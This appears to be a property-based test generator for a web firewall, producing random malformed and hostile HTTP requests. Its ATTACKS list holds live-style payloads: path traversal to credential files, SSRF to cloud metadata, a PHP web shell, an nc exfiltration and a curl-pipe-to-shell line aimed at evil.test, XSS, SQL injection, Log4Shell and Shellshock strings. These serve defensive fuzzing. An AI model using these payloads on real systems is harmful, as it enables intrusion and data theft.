// Generates requests of attackers and of broken clients: every text may be anything.
import fc from "fast-check";
import type { RequestAttributes } from "../../src/firewall/evaluator/request/attributes.ts";
import { definedMembers } from "./defined-members.ts";
import { ADDRESSES, HOSTS, PATHS, VALUES, WORDS } from "./pools.ts";

/** Typical texts of each kind of attack, and user agents of bots. */
export const ATTACKS = [
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpa%73swd",
  "..%c0%af..%c0%afwin.ini",
  "/etc/pa\u017f\u017fwd",
  "/proc/self/environ",
  "file:///etc/shadow",
  "http://evil.test/shell.txt?",
  "//169.254.169.254/latest/meta-data/",
  "php://filter/convert.base64-encode/resource=index.php",
  "<?php system($_GET['c']); ?>",
  "; cat /etc/hosts | nc evil.test 80",
  "$(curl evil.test|sh)",
  "`id`",
  "%0a/bin/ba\u017fh -i",
  "<script>alert(1)</script>",
  "%3Csvg%2Fonload%3Dalert(1)%3E",
  "<\u017fcript>alert`1`</\u017fcript>",
  "javascript:alert(document.cookie)",
  '"><img src=x onerror=alert(1)>',
  "' or 1=1 -- ",
  "1' UNION/**/SELECT null,null#",
  "1;DROP TABLE users",
  "%27%20or%20%271%27%3D%271",
  "1 AND \u017fleep(5)",
  "PHPSESSID=1234&jsessionid=5678",
  "${jndi:ldap://evil.test/a}",
  "${${lower:j}ndi:rmi://x}",
  "class.module.classLoader.resources",
  "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
  "{{7*7}}",
  "__proto__[admin]=1",
  "constructor.prototype",
  "/.git/config",
  "/wp-login.php",
  "/.env",
  "sqlmap/1.7",
  "nikto",
  "GPTBot/1.1",
  "AhrefsBot/7.0",
  "HeadlessChrome/120.0",
  "multipart/form-data; boundary=a; boundary=b",
  "() { :; }; echo",
] as const;

const SHARDS = [
  ..."% %2 %zz %G1 %00 %2b %26 %3D %0d%0a %ff %c0%ae %ed%a0%80 %f4%90%80%80 %f0%9f%98 %80 %ef%bb%bf %e2%84%aa %252e %2525".split(
    " ",
  ),
  ..."/ // /. /.. /./ /../ . .. ... \\ ? # & = ; , + : @ [ ] [::1] :80 : * *. ' \" < > ( ) { } | ^ ~ ` ! $".split(" "),
  ..."http:// HTTPS:// ftp:// :// javascript: // a A z 0 00 -1 1e9 NaN true null undefined __proto__".split(" "),
  ..." |\t|\0|\n|\r\n|\u0085|\u2028|\ufeff|\u00e9|e\u0301|\u00df|\u1e9e|\u0130|i\u0307|\u212a|\u017f|\u03a3|\u03c2|\u{1f600}".split(
    "|",
  ),
] as const;

const shard = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...SHARDS) },
  { weight: 2, arbitrary: fc.constantFrom(...ATTACKS) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTS, ...PATHS, ...WORDS) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 6 }) },
);

/** An empty, short, odd or repetitive text. */
const text = fc.oneof(
  { weight: 8, arbitrary: fc.array(shard, { maxLength: 6 }).map((parts) => parts.join("")) },
  { weight: 4, arbitrary: fc.constantFrom(...ATTACKS) },
  { weight: 1, arbitrary: fc.tuple(shard, fc.integer({ min: 2, max: 60 })).map(([part, times]) => part.repeat(times)) },
);

const beginning = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom("", "/", ...PATHS) },
  {
    weight: 3,
    arbitrary: fc.constantFrom("http://", "HTTPS://", "https://example.com/", "https://u:p@kite.test:8/a?q="),
  },
  { weight: 1, arbitrary: text },
);
const url = fc
  .tuple(beginning, text, fc.constantFrom("", "?", "#", "?a=", "?x&a="), text)
  .map((parts) => parts.join(""));

const headerName = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom("Host", "host", "HOST", "Cookie", "cookie", "User-Agent", "content-type") },
  {
    weight: 4,
    arbitrary: fc.constantFrom("x-one", "X-TWO", "accept", "X-\u212aEY", "referer", "x-tor2web", "__proto__", "", " "),
  },
  { weight: 1, arbitrary: text },
);
const headers = fc
  .array(fc.tuple(headerName, fc.oneof(text, fc.constantFrom(...HOSTS), fc.array(text, { maxLength: 3 }))), {
    maxLength: 6,
  })
  .map((pairs): NonNullable<RequestAttributes["headers"]> => Object.fromEntries(pairs));

const ip = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...ADDRESSES) },
  { weight: 1, arbitrary: fc.ipV4() },
  { weight: 1, arbitrary: fc.ipV4Extended() },
  { weight: 2, arbitrary: fc.ipV6() },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ..."::ffff:a01:203 ::ffff:10.1.2.03 ::10.1.2.3 1:2:3:4:5:6:7::8 1:2:3:4:5:6:7:: ::1:2:3:4:5:6:7 1::2::3".split(
        " ",
      ),
      ..."[::1] ::1% ::1%eth0 10.1.2.3:80 10.1.2.3/32 0x0a.1.2.3 10.1.515 10.1.2.256 1.2.3.4.5 10.1.2.3\0".split(" "),
      ..."64:ff9b::10.1.2.3 ::ffff:0:10.1.2.3 ::FFFF:255.255.255.255 :::: : 02001:db8::1 2001:db8::1::".split(" "),
      "",
      " 10.1.2.3",
      "10.1.2.3 ",
      "\u0661\u0660.1.2.3",
    ),
  },
  { weight: 1, arbitrary: text },
);

const sometimes = <T>(value: fc.Arbitrary<T>) => fc.option(value, { nil: undefined, freq: 2 });
const number = fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer(), text);

export const hostileRequest: fc.Arbitrary<RequestAttributes> = fc
  .record({
    url,
    method: sometimes(text),
    headers: sometimes(headers),
    ip: sometimes(ip),
    targetPath: sometimes(text),
    body: sometimes(text),
    protocol: sometimes(text),
    geo: sometimes(fc.record({ city: text, asNumber: number })),
    ja4: sometimes(text),
    route: sometimes(text),
    bot: sometimes(fc.record({ name: text, category: fc.oneof(text, fc.constantFrom(...VALUES.bot_category)) })),
    trafficSource: sometimes(fc.oneof(text, fc.constantFrom(...VALUES.traffic_source))),
    rulesets: sometimes(fc.array(text, { maxLength: 3 })),
  })
  .map((record) => definedMembers(record) as RequestAttributes);

/** The epoch, times before it, the last time of a Date, and fractions of milliseconds. */
export const absurdStart = fc.oneof(
  fc.constantFrom(0, -1, -86_400_001, 1, 0.5, 8_640_000_000_000_000, -8_640_000_000_000_000),
  fc.integer({ min: -1_000_000, max: 1_000_000 }),
);
